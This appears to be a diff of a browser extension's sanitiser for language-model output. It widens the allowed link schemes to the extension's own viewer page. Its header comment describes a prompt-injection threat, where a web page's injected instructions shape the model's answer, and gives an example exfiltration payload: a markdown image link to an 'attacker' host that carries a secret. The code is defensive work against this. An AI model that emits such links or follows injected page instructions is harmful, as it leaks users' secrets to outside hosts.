@@ -2,7 +2,8 @@
  * Model output → safe HTML: marked (GFM) renders, DOMPurify sanitises through a strict allowlist. An answer
  * may have been written by a page's injected instructions, so nothing in it may make a request by being
  * rendered: no element or attribute that loads a resource (images, media, frames, SVG, MathML, CSS, forms,
- * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto, opened in a new
+ * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s), mailto and the extension's own
+ * viewer page of a folder document (describe-link.ts checks its address), opened in a new
  * tab without opener or referrer. Images become links, so ![](https://attacker/?q=<secret>) needs a click.
  * Links carry the destination the panel shows beside them (`data-host`, `title`) and are marked
  * (`data-suspicious`) when they carry data; these attributes are set here, after the model's are removed.
@@ -68,7 +69,8 @@ const TRUST_ATTR = 'data-tw-trust';
 /** Attributes that are never URLs; DOMPurify would otherwise hold their values to SAFE_HREF too. */
 const PLAIN_ATTR = ['align', 'colspan', 'rowspan', 'start', TRUST_ATTR];
 const ALLOWED_ATTR = ['href', ...PLAIN_ATTR];
-const SAFE_HREF = /^(?:https?:|mailto:)/i;
+// chrome-extension: only for the viewer page of a folder document: describeLink checks the whole address below.
+const SAFE_HREF = /^(?:https?:|mailto:|chrome-extension:)/i;
 
 const ALLOWED_TAG_SET = new Set(ALLOWED_TAGS);
 /**
